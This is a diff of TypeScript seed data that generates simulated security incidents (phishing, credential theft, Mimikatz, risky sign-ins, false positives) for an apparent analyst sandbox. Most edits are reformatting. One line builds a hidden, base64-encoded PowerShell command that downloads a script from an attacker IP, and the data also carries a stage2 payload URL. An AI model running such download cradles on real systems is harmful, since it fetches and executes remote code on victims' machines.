@@ -2,17 +2,16 @@
 // credential-theft story for amy.wong, PowerShell on ws-fin-042, raj.patel's malicious sign-ins and inbox rule,
 // and a tail of benign, resolved, false-positive and redirected incidents. Times are relative to `now`.
 import { createHash } from 'node:crypto';
-import type {
-  DeviceEvidence,
-  StoredAlert,
-  StoredEvidence,
-  StoredIncident,
-  UserEvidence,
-} from '../incidents/model';
+import type { DeviceEvidence, StoredAlert, StoredEvidence, StoredIncident, UserEvidence } from '../incidents/model';
 import { analysts, devices, files, maliciousIps, phishingSender, users } from './entities';
 
 // The seed hunting tables' account SIDs end in these numbers (sandbox/kql seedBenign.ts PROFILES).
-const SID_SUFFIX: Record<string, number> = { 'amy.wong': 1104, 'svc-backup': 1201, 'lena.fischer': 1107, 'raj.patel': 1113 };
+const SID_SUFFIX: Record<string, number> = {
+  'amy.wong': 1104,
+  'svc-backup': 1201,
+  'lena.fischer': 1107,
+  'raj.patel': 1113,
+};
 
 const MINUTE = 60_000;
 const HOUR = 60 * MINUTE;
@@ -23,7 +22,9 @@ function at(now: Date, ago: number, digits = 7, salt = ''): string {
   const d = new Date(now.getTime() - ago);
   const base = d.toISOString().slice(0, 19);
   const extra = createHash('sha1').update(`${ago}:${salt}`).digest('hex').replace(/\D/g, '').padEnd(4, '7');
-  const fraction = (String(d.getUTCMilliseconds()).padStart(3, '0') + extra.slice(0, 4)).slice(0, digits).replace(/0+$/, '');
+  const fraction = (String(d.getUTCMilliseconds()).padStart(3, '0') + extra.slice(0, 4))
+    .slice(0, digits)
+    .replace(/0+$/, '');
   return fraction ? `${base}.${fraction}Z` : `${base}Z`;
 }
 
@@ -75,7 +76,12 @@ function device(d: (typeof devices)[number], time: string, extra: Partial<Device
   };
 }
 
-function user(u: (typeof users)[number], time: string, roles: string[] = [], verdict: UserEvidence['verdict'] = 'unknown'): UserEvidence {
+function user(
+  u: (typeof users)[number],
+  time: string,
+  roles: string[] = [],
+  verdict: UserEvidence['verdict'] = 'unknown',
+): UserEvidence {
   return {
     kind: 'user',
     createdDateTime: time,
@@ -91,8 +97,21 @@ function user(u: (typeof users)[number], time: string, roles: string[] = [], ver
   };
 }
 
-function ip(address: string, time: string, roles: string[] = ['attacker'], country: string | null = 'NL'): StoredEvidence {
-  return { kind: 'ip', createdDateTime: time, verdict: 'malicious', remediationStatus: 'none', roles, ipAddress: address, countryLetterCode: country };
+function ip(
+  address: string,
+  time: string,
+  roles: string[] = ['attacker'],
+  country: string | null = 'NL',
+): StoredEvidence {
+  return {
+    kind: 'ip',
+    createdDateTime: time,
+    verdict: 'malicious',
+    remediationStatus: 'none',
+    roles,
+    ipAddress: address,
+    countryLetterCode: country,
+  };
 }
 
 interface AlertInit {
@@ -126,7 +145,16 @@ function alert(now: Date, a: AlertInit): StoredAlert {
     status: a.status ?? 'new',
     serviceSource: a.serviceSource,
     detectionSource: a.detectionSource,
-    detectorId: hash('sha1', a.title).slice(0, 8) + '-' + hash('sha1', a.title).slice(8, 12) + '-4' + hash('sha1', a.title).slice(13, 16) + '-a' + hash('sha1', a.title).slice(17, 20) + '-' + hash('sha1', a.title).slice(20, 32),
+    detectorId:
+      hash('sha1', a.title).slice(0, 8) +
+      '-' +
+      hash('sha1', a.title).slice(8, 12) +
+      '-4' +
+      hash('sha1', a.title).slice(13, 16) +
+      '-a' +
+      hash('sha1', a.title).slice(17, 20) +
+      '-' +
+      hash('sha1', a.title).slice(20, 32),
     createdDateTime: created,
     lastUpdateDateTime: at(now, a.created - 10 * MINUTE, 7, a.id + 'u'),
     firstActivityDateTime: at(now, a.created + 12 * MINUTE, 7, a.id + 'f'),
@@ -138,8 +166,13 @@ function alert(now: Date, a: AlertInit): StoredAlert {
     actorDisplayName: null,
     threatFamilyName: a.threatFamilyName ?? null,
     mitreTechniques: a.mitre,
-    investigationId: a.serviceSource === 'microsoftDefenderForEndpoint' ? 7000 + Number(a.id.slice(-4)) % 1000 : null,
-    investigationState: a.serviceSource === 'microsoftDefenderForEndpoint' ? (a.status === 'resolved' ? 'Benign' : 'PendingApproval') : 'UnsupportedAlertType',
+    investigationId: a.serviceSource === 'microsoftDefenderForEndpoint' ? 7000 + (Number(a.id.slice(-4)) % 1000) : null,
+    investigationState:
+      a.serviceSource === 'microsoftDefenderForEndpoint'
+        ? a.status === 'resolved'
+          ? 'Benign'
+          : 'PendingApproval'
+        : 'UnsupportedAlertType',
     evidence: a.evidence(created),
   };
 }
@@ -157,8 +190,18 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
   const hrEncoded = `powershell.exe -nop -w hidden -enc ${Buffer.from(stage(`http://${ipB}/update.ps1`), 'utf16le').toString('base64')}`;
 
   const incidents: StoredIncident[] = [];
-  const add = (i: Omit<StoredIncident, 'lastModifiedBy' | 'redirectIncidentId' | 'systemTags' | 'summary' | 'resolvingComment'> & Partial<StoredIncident>): void => {
-    incidents.push({ lastModifiedBy: null, redirectIncidentId: null, systemTags: [], summary: null, resolvingComment: null, ...i });
+  const add = (
+    i: Omit<StoredIncident, 'lastModifiedBy' | 'redirectIncidentId' | 'systemTags' | 'summary' | 'resolvingComment'> &
+      Partial<StoredIncident>,
+  ): void => {
+    incidents.push({
+      lastModifiedBy: null,
+      redirectIncidentId: null,
+      systemTags: [],
+      summary: null,
+      resolvingComment: null,
+      ...i,
+    });
   };
   const mailbox = (u: (typeof users)[number], t: string, roles: string[]): StoredEvidence => ({
     kind: 'mailbox',
@@ -170,7 +213,13 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
     primaryAddress: u.upn,
     azureAdUserId: u.objectId,
   });
-  const powershell = (d: (typeof devices)[number], u: (typeof users)[number], t: string, commandLine: string, pid: number): StoredEvidence => ({
+  const powershell = (
+    d: (typeof devices)[number],
+    u: (typeof users)[number],
+    t: string,
+    commandLine: string,
+    pid: number,
+  ): StoredEvidence => ({
     kind: 'process',
     createdDateTime: t,
     verdict: 'suspicious',
@@ -219,27 +268,32 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
         created: 29.5 * HOUR,
         mitre: ['T1566.002'],
         evidence: (t) => [
-          ...[amy, lena].map(
-            (u): StoredEvidence => ({
-              kind: 'mailMessage',
-              createdDateTime: t,
-              verdict: 'malicious',
-              remediationStatus: 'remediated',
-              roles: [],
-              networkMessageId: '4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8',
-              internetMessageId: '<PH0PR11MB4968E1A2B3C4D5E6F7@PH0PR11MB4968.namprd11.prod.outlook.com>',
-              subject: 'Overdue invoice 2026-0113 - payment required today',
-              sender: phishingSender,
-              senderIp: ipC,
-              recipient: u.upn,
-              deliveryAction: 'Delivered',
-              deliveryLocation: 'Inbox',
-              receivedDateTime: t,
-              attachmentsCount: 1,
-              urlCount: 1,
-            }),
-          ),
-          { kind: 'url', createdDateTime: t, verdict: 'malicious', remediationStatus: 'none', roles: [], url: 'https://fabrikam-payments.example/invoice/2026-0113' },
+          ...[amy, lena].map((u): StoredEvidence => ({
+            kind: 'mailMessage',
+            createdDateTime: t,
+            verdict: 'malicious',
+            remediationStatus: 'remediated',
+            roles: [],
+            networkMessageId: '4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8',
+            internetMessageId: '<PH0PR11MB4968E1A2B3C4D5E6F7@PH0PR11MB4968.namprd11.prod.outlook.com>',
+            subject: 'Overdue invoice 2026-0113 - payment required today',
+            sender: phishingSender,
+            senderIp: ipC,
+            recipient: u.upn,
+            deliveryAction: 'Delivered',
+            deliveryLocation: 'Inbox',
+            receivedDateTime: t,
+            attachmentsCount: 1,
+            urlCount: 1,
+          })),
+          {
+            kind: 'url',
+            createdDateTime: t,
+            verdict: 'malicious',
+            remediationStatus: 'none',
+            roles: [],
+            url: 'https://fabrikam-payments.example/invoice/2026-0113',
+          },
           mailbox(amy, t, ['contextual']),
           user(amy, t, ['compromised']),
           user(lena, t),
@@ -261,9 +315,29 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
           user(amy, t, ['compromised']),
           powershell(finWs, amy, t, finCradle, 9144),
           invoiceFile(t, finWs.deviceId),
-          { kind: 'file', createdDateTime: t, verdict: 'malicious', remediationStatus: 'prevented', roles: [], fileName: mimikatz.fileName, filePath: 'C:\\Users\\Public', sha1: mimikatz.sha1, sha256: mimikatz.sha256, fileSize: 1_355_680, mdeDeviceId: finWs.deviceId, detectionStatus: 'prevented' },
+          {
+            kind: 'file',
+            createdDateTime: t,
+            verdict: 'malicious',
+            remediationStatus: 'prevented',
+            roles: [],
+            fileName: mimikatz.fileName,
+            filePath: 'C:\\Users\\Public',
+            sha1: mimikatz.sha1,
+            sha256: mimikatz.sha256,
+            fileSize: 1_355_680,
+            mdeDeviceId: finWs.deviceId,
+            detectionStatus: 'prevented',
+          },
           ip(ipA, t),
-          { kind: 'url', createdDateTime: t, verdict: 'malicious', remediationStatus: 'none', roles: [], url: `http://${ipA}/stage2.ps1` },
+          {
+            kind: 'url',
+            createdDateTime: t,
+            verdict: 'malicious',
+            remediationStatus: 'none',
+            roles: [],
+            url: `http://${ipA}/stage2.ps1`,
+          },
         ],
       }),
     ],
@@ -284,7 +358,13 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
     createdDateTime: at(now, 18 * HOUR, 3, '3310'),
     lastUpdateDateTime: at(now, 16 * HOUR, 3, '3310u'),
     lastModifiedBy: `API-App:${secops1}`,
-    comments: [{ comment: 'Isolating the device while we review the downloaded script.', createdBy: secops1, createdDateTime: at(now, 16 * HOUR, 3, '3310c') }],
+    comments: [
+      {
+        comment: 'Isolating the device while we review the downloaded script.',
+        createdBy: secops1,
+        createdDateTime: at(now, 16 * HOUR, 3, '3310c'),
+      },
+    ],
     alerts: [
       alert(now, {
         id: id(1),
@@ -298,7 +378,12 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
         mitre: ['T1059.001', 'T1027'],
         status: 'inProgress',
         assignedTo: secops1,
-        evidence: (t) => [device(hrWs, t, { roles: ['compromised'] }), user(lena, t, ['compromised']), powershell(hrWs, lena, t, hrEncoded, 6412), ip(ipB, t)],
+        evidence: (t) => [
+          device(hrWs, t, { roles: ['compromised'] }),
+          user(lena, t, ['compromised']),
+          powershell(hrWs, lena, t, hrEncoded, 6412),
+          ip(ipB, t),
+        ],
       }),
     ],
   });
@@ -376,7 +461,13 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
         detectionSource: 'microsoftDefenderForCloudApps',
         created: 6 * HOUR,
         mitre: ['T1078'],
-        evidence: (t) => [user(raj, t, ['compromised'], 'suspicious'), user(amy, t, ['compromised']), ip(ipB, t, ['attacker'], 'RO'), ip(ipC, t), ip(ipA, t)],
+        evidence: (t) => [
+          user(raj, t, ['compromised'], 'suspicious'),
+          user(amy, t, ['compromised']),
+          ip(ipB, t, ['attacker'], 'RO'),
+          ip(ipC, t),
+          ip(ipA, t),
+        ],
       }),
     ],
   });
@@ -421,179 +512,274 @@ export function createSeedIncidents(now: Date, alertIds: readonly string[]): Sto
     });
   };
 
-  simple(3308, 7 * DAY, `EICAR test file detected on ${macDev.deviceName.split('.')[0]}`, {
-    status: 'resolved',
-    severity: 'informational',
-    classification: 'informationalExpectedActivity',
-    determination: 'securityTesting',
-    assignedTo: secops2,
-    customTags: ['Test'],
-    resolvingComment: 'Quarterly AV test by the endpoint team.',
-    lastModifiedBy: secops2,
-  }, {
-    idPrefix: 'da6371000000000001',
-    title: "'EICAR_Test_File' malware was prevented",
-    description: 'The EICAR anti-malware test file was detected and quarantined.',
-    category: 'Malware',
-    severity: 'informational',
-    serviceSource: 'microsoftDefenderForEndpoint',
-    detectionSource: 'antivirus',
-    mitre: [],
-    threatFamilyName: 'EICAR_Test_File',
-    evidence: (t) => [
-      device(macDev, t),
-      { kind: 'file', createdDateTime: t, verdict: 'malicious', remediationStatus: 'prevented', roles: [], fileName: 'eicar.com', filePath: '/Users/dev/Downloads', sha1: hash('sha1', 'eicar.com'), sha256: hash('sha256', 'eicar.com'), fileSize: 68, mdeDeviceId: macDev.deviceId, detectionStatus: 'prevented' },
-    ],
-  });
+  simple(
+    3308,
+    7 * DAY,
+    `EICAR test file detected on ${macDev.deviceName.split('.')[0]}`,
+    {
+      status: 'resolved',
+      severity: 'informational',
+      classification: 'informationalExpectedActivity',
+      determination: 'securityTesting',
+      assignedTo: secops2,
+      customTags: ['Test'],
+      resolvingComment: 'Quarterly AV test by the endpoint team.',
+      lastModifiedBy: secops2,
+    },
+    {
+      idPrefix: 'da6371000000000001',
+      title: "'EICAR_Test_File' malware was prevented",
+      description: 'The EICAR anti-malware test file was detected and quarantined.',
+      category: 'Malware',
+      severity: 'informational',
+      serviceSource: 'microsoftDefenderForEndpoint',
+      detectionSource: 'antivirus',
+      mitre: [],
+      threatFamilyName: 'EICAR_Test_File',
+      evidence: (t) => [
+        device(macDev, t),
+        {
+          kind: 'file',
+          createdDateTime: t,
+          verdict: 'malicious',
+          remediationStatus: 'prevented',
+          roles: [],
+          fileName: 'eicar.com',
+          filePath: '/Users/dev/Downloads',
+          sha1: hash('sha1', 'eicar.com'),
+          sha256: hash('sha256', 'eicar.com'),
+          fileSize: 68,
+          mdeDeviceId: macDev.deviceId,
+          detectionStatus: 'prevented',
+        },
+      ],
+    },
+  );
 
-  simple(3307, 9 * DAY, `Unusual volume of file access by ${svcBackup.accountName} on ${sqlSrv.deviceName.split('.')[0]}`, {
-    status: 'resolved',
-    severity: 'low',
-    classification: 'falsePositive',
-    determination: 'clean',
-    assignedTo: secops2,
-    resolvingComment: 'Nightly full backup after the storage migration; expected volume.',
-    comments: [{ comment: 'Matches the change ticket CHG-20931 for the storage migration.', createdBy: secops2, createdDateTime: at(now, 9 * DAY - 3 * HOUR, 2, '3307c') }],
-  }, {
-    idPrefix: 'da6371000000000001',
-    title: 'Possible data staging by a service account',
-    description: `${svcBackup.upn} read an unusually large number of files on ${sqlSrv.deviceName}.`,
-    category: 'Collection',
-    severity: 'low',
-    serviceSource: 'microsoftDefenderForEndpoint',
-    detectionSource: 'microsoftDefenderForEndpoint',
-    mitre: ['T1074.001'],
-    evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
-  });
+  simple(
+    3307,
+    9 * DAY,
+    `Unusual volume of file access by ${svcBackup.accountName} on ${sqlSrv.deviceName.split('.')[0]}`,
+    {
+      status: 'resolved',
+      severity: 'low',
+      classification: 'falsePositive',
+      determination: 'clean',
+      assignedTo: secops2,
+      resolvingComment: 'Nightly full backup after the storage migration; expected volume.',
+      comments: [
+        {
+          comment: 'Matches the change ticket CHG-20931 for the storage migration.',
+          createdBy: secops2,
+          createdDateTime: at(now, 9 * DAY - 3 * HOUR, 2, '3307c'),
+        },
+      ],
+    },
+    {
+      idPrefix: 'da6371000000000001',
+      title: 'Possible data staging by a service account',
+      description: `${svcBackup.upn} read an unusually large number of files on ${sqlSrv.deviceName}.`,
+      category: 'Collection',
+      severity: 'low',
+      serviceSource: 'microsoftDefenderForEndpoint',
+      detectionSource: 'microsoftDefenderForEndpoint',
+      mitre: ['T1074.001'],
+      evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
+    },
+  );
 
-  simple(3306, 12 * DAY, 'Password spray attack against multiple users', {
-    status: 'resolved',
-    severity: 'medium',
-    classification: 'truePositive',
-    determination: 'maliciousUserActivity',
-    assignedTo: tier2,
-    customTags: ['Identity', 'Blocked'],
-    resolvingComment: 'Source address blocked at the perimeter; no successful sign-ins.',
-    priorityScore: 40,
-    comments: [
-      { comment: `Blocked ${ipC} on the firewall.`, createdBy: tier2, createdDateTime: at(now, 12 * DAY - 2 * HOUR, 3, '3306a') },
-      { comment: 'No successful sign-ins from the spray; closing.', createdBy: tier2, createdDateTime: at(now, 12 * DAY - 5 * HOUR, 3, '3306b') },
-    ],
-  }, {
-    idPrefix: 'aad3f1c2e4b5a6978812',
-    title: 'Password spray',
-    description: `Many accounts had failed sign-ins from ${ipC} within a short time.`,
-    category: 'CredentialAccess',
-    severity: 'medium',
-    serviceSource: 'azureAdIdentityProtection',
-    detectionSource: 'azureAdIdentityProtection',
-    mitre: ['T1110.003'],
-    evidence: (t) => [user(lena, t, ['attacked']), user(raj, t, ['attacked']), ip(ipC, t)],
-  });
+  simple(
+    3306,
+    12 * DAY,
+    'Password spray attack against multiple users',
+    {
+      status: 'resolved',
+      severity: 'medium',
+      classification: 'truePositive',
+      determination: 'maliciousUserActivity',
+      assignedTo: tier2,
+      customTags: ['Identity', 'Blocked'],
+      resolvingComment: 'Source address blocked at the perimeter; no successful sign-ins.',
+      priorityScore: 40,
+      comments: [
+        {
+          comment: `Blocked ${ipC} on the firewall.`,
+          createdBy: tier2,
+          createdDateTime: at(now, 12 * DAY - 2 * HOUR, 3, '3306a'),
+        },
+        {
+          comment: 'No successful sign-ins from the spray; closing.',
+          createdBy: tier2,
+          createdDateTime: at(now, 12 * DAY - 5 * HOUR, 3, '3306b'),
+        },
+      ],
+    },
+    {
+      idPrefix: 'aad3f1c2e4b5a6978812',
+      title: 'Password spray',
+      description: `Many accounts had failed sign-ins from ${ipC} within a short time.`,
+      category: 'CredentialAccess',
+      severity: 'medium',
+      serviceSource: 'azureAdIdentityProtection',
+      detectionSource: 'azureAdIdentityProtection',
+      mitre: ['T1110.003'],
+      evidence: (t) => [user(lena, t, ['attacked']), user(raj, t, ['attacked']), ip(ipC, t)],
+    },
+  );
 
-  simple(3305, 15 * DAY, `Unwanted software detected on ${hrWs.deviceName.split('.')[0]}`, {
-    status: 'resolved',
-    severity: 'low',
-    classification: 'truePositive',
-    determination: 'unwantedSoftware',
-    assignedTo: secops1,
-    resolvingComment: 'Adware removed by automated investigation.',
-  }, {
-    idPrefix: 'da6371000000000001',
-    title: "'BundleInstaller' unwanted software was removed",
-    description: 'A potentially unwanted application bundled with a PDF tool was removed.',
-    category: 'Malware',
-    severity: 'low',
-    serviceSource: 'microsoftDefenderForEndpoint',
-    detectionSource: 'antivirus',
-    mitre: [],
-    threatFamilyName: 'BundleInstaller',
-    evidence: (t) => [
-      device(hrWs, t),
-      { kind: 'file', createdDateTime: t, verdict: 'suspicious', remediationStatus: 'remediated', roles: [], fileName: 'pdfsetup_free.exe', filePath: 'C:\\Users\\lena.fischer\\Downloads', sha1: hash('sha1', 'pdfsetup_free.exe'), sha256: hash('sha256', 'pdfsetup_free.exe'), fileSize: 3_145_728, mdeDeviceId: hrWs.deviceId, detectionStatus: 'detected' },
-      user(lena, t),
-    ],
-  });
+  simple(
+    3305,
+    15 * DAY,
+    `Unwanted software detected on ${hrWs.deviceName.split('.')[0]}`,
+    {
+      status: 'resolved',
+      severity: 'low',
+      classification: 'truePositive',
+      determination: 'unwantedSoftware',
+      assignedTo: secops1,
+      resolvingComment: 'Adware removed by automated investigation.',
+    },
+    {
+      idPrefix: 'da6371000000000001',
+      title: "'BundleInstaller' unwanted software was removed",
+      description: 'A potentially unwanted application bundled with a PDF tool was removed.',
+      category: 'Malware',
+      severity: 'low',
+      serviceSource: 'microsoftDefenderForEndpoint',
+      detectionSource: 'antivirus',
+      mitre: [],
+      threatFamilyName: 'BundleInstaller',
+      evidence: (t) => [
+        device(hrWs, t),
+        {
+          kind: 'file',
+          createdDateTime: t,
+          verdict: 'suspicious',
+          remediationStatus: 'remediated',
+          roles: [],
+          fileName: 'pdfsetup_free.exe',
+          filePath: 'C:\\Users\\lena.fischer\\Downloads',
+          sha1: hash('sha1', 'pdfsetup_free.exe'),
+          sha256: hash('sha256', 'pdfsetup_free.exe'),
+          fileSize: 3_145_728,
+          mdeDeviceId: hrWs.deviceId,
+          detectionStatus: 'detected',
+        },
+        user(lena, t),
+      ],
+    },
+  );
 
-  simple(3304, 18 * DAY, `PsExec used on ${sqlSrv.deviceName.split('.')[0]}`, {
-    status: 'resolved',
-    severity: 'informational',
-    classification: 'informationalExpectedActivity',
-    determination: 'confirmedActivity',
-    assignedTo: secops1,
-    customTags: ['IT-Admin'],
-    resolvingComment: 'Confirmed with the DBA team: scheduled maintenance.',
-  }, {
-    idPrefix: 'da6371000000000001',
-    title: 'Remote execution with PsExec',
-    description: `PsExec started a service on ${sqlSrv.deviceName}.`,
-    category: 'LateralMovement',
-    severity: 'informational',
-    serviceSource: 'microsoftDefenderForEndpoint',
-    detectionSource: 'microsoftDefenderForEndpoint',
-    mitre: ['T1569.002'],
-    evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
-  });
+  simple(
+    3304,
+    18 * DAY,
+    `PsExec used on ${sqlSrv.deviceName.split('.')[0]}`,
+    {
+      status: 'resolved',
+      severity: 'informational',
+      classification: 'informationalExpectedActivity',
+      determination: 'confirmedActivity',
+      assignedTo: secops1,
+      customTags: ['IT-Admin'],
+      resolvingComment: 'Confirmed with the DBA team: scheduled maintenance.',
+    },
+    {
+      idPrefix: 'da6371000000000001',
+      title: 'Remote execution with PsExec',
+      description: `PsExec started a service on ${sqlSrv.deviceName}.`,
+      category: 'LateralMovement',
+      severity: 'informational',
+      serviceSource: 'microsoftDefenderForEndpoint',
+      detectionSource: 'microsoftDefenderForEndpoint',
+      mitre: ['T1569.002'],
+      evidence: (t) => [device(sqlSrv, t), user(svcBackup, t)],
+    },
+  );
 
-  simple(3303, 21 * DAY, `Phishing link clicked by ${lena.accountName} was blocked`, {
-    status: 'resolved',
-    severity: 'medium',
-    classification: 'truePositive',
-    determination: 'phishing',
-    assignedTo: secops2,
-    customTags: ['Phishing'],
-    resolvingComment: 'Safe Links blocked the page; password reset as a precaution.',
-    priorityScore: 35,
-  }, {
-    idPrefix: 'fa2b7c9d1e3f4a5b6c7d',
-    title: 'A potentially malicious URL click was detected',
-    description: `${lena.upn} clicked a link to a credential-harvesting page; Safe Links blocked it.`,
-    category: 'InitialAccess',
-    severity: 'medium',
-    serviceSource: 'microsoftDefenderForOffice365',
-    detectionSource: 'microsoftDefenderForOffice365',
-    mitre: ['T1566.002'],
-    evidence: (t) => [
-      { kind: 'url', createdDateTime: t, verdict: 'malicious', remediationStatus: 'blocked', roles: [], url: 'https://login-contoso.example/owa/auth' },
-      user(lena, t),
-    ],
-  });
+  simple(
+    3303,
+    21 * DAY,
+    `Phishing link clicked by ${lena.accountName} was blocked`,
+    {
+      status: 'resolved',
+      severity: 'medium',
+      classification: 'truePositive',
+      determination: 'phishing',
+      assignedTo: secops2,
+      customTags: ['Phishing'],
+      resolvingComment: 'Safe Links blocked the page; password reset as a precaution.',
+      priorityScore: 35,
+    },
+    {
+      idPrefix: 'fa2b7c9d1e3f4a5b6c7d',
+      title: 'A potentially malicious URL click was detected',
+      description: `${lena.upn} clicked a link to a credential-harvesting page; Safe Links blocked it.`,
+      category: 'InitialAccess',
+      severity: 'medium',
+      serviceSource: 'microsoftDefenderForOffice365',
+      detectionSource: 'microsoftDefenderForOffice365',
+      mitre: ['T1566.002'],
+      evidence: (t) => [
+        {
+          kind: 'url',
+          createdDateTime: t,
+          verdict: 'malicious',
+          remediationStatus: 'blocked',
+          roles: [],
+          url: 'https://login-contoso.example/owa/auth',
+        },
+        user(lena, t),
+      ],
+    },
+  );
 
-  simple(3302, 25 * DAY, `Impossible travel activity for ${lena.accountName}`, {
-    status: 'resolved',
-    severity: 'low',
-    classification: 'falsePositive',
-    determination: 'insufficientData',
-    assignedTo: tier2,
-    resolvingComment: 'VPN egress in another region; not enough data to say more.',
-  }, {
-    idPrefix: 'ca9e8d7c6b5a4f3e2d1c',
-    title: 'Impossible travel activity',
-    description: `${lena.upn} signed in from two distant locations within 40 minutes.`,
-    category: 'InitialAccess',
-    severity: 'low',
-    serviceSource: 'microsoftDefenderForCloudApps',
-    detectionSource: 'microsoftDefenderForCloudApps',
-    mitre: ['T1078'],
-    evidence: (t) => [user(lena, t), ip('203.0.113.200', t, ['contextual'], 'SG')],
-  });
+  simple(
+    3302,
+    25 * DAY,
+    `Impossible travel activity for ${lena.accountName}`,
+    {
+      status: 'resolved',
+      severity: 'low',
+      classification: 'falsePositive',
+      determination: 'insufficientData',
+      assignedTo: tier2,
+      resolvingComment: 'VPN egress in another region; not enough data to say more.',
+    },
+    {
+      idPrefix: 'ca9e8d7c6b5a4f3e2d1c',
+      title: 'Impossible travel activity',
+      description: `${lena.upn} signed in from two distant locations within 40 minutes.`,
+      category: 'InitialAccess',
+      severity: 'low',
+      serviceSource: 'microsoftDefenderForCloudApps',
+      detectionSource: 'microsoftDefenderForCloudApps',
+      mitre: ['T1078'],
+      evidence: (t) => [user(lena, t), ip('203.0.113.200', t, ['contextual'], 'SG')],
+    },
+  );
 
-  simple(3301, 29 * DAY, `Multiple failed sign-ins for ${svcBackup.accountName}`, {
-    status: 'redirected',
-    severity: 'low',
-    redirectIncidentId: 3306,
-    customTags: [],
-  }, {
-    idPrefix: 'aad3f1c2e4b5a6978812',
-    title: 'Multiple failed user log on attempts',
-    description: `${svcBackup.upn} had repeated failed sign-ins.`,
-    category: 'CredentialAccess',
-    severity: 'low',
-    serviceSource: 'azureAdIdentityProtection',
-    detectionSource: 'azureAdIdentityProtection',
-    mitre: ['T1110'],
-    evidence: (t) => [user(svcBackup, t, ['attacked']), ip(ipC, t)],
-  });
+  simple(
+    3301,
+    29 * DAY,
+    `Multiple failed sign-ins for ${svcBackup.accountName}`,
+    {
+      status: 'redirected',
+      severity: 'low',
+      redirectIncidentId: 3306,
+      customTags: [],
+    },
+    {
+      idPrefix: 'aad3f1c2e4b5a6978812',
+      title: 'Multiple failed user log on attempts',
+      description: `${svcBackup.upn} had repeated failed sign-ins.`,
+      category: 'CredentialAccess',
+      severity: 'low',
+      serviceSource: 'azureAdIdentityProtection',
+      detectionSource: 'azureAdIdentityProtection',
+      mitre: ['T1110'],
+      evidence: (t) => [user(svcBackup, t, ['attacked']), ip(ipC, t)],
+    },
+  );
 
   return incidents;
 }
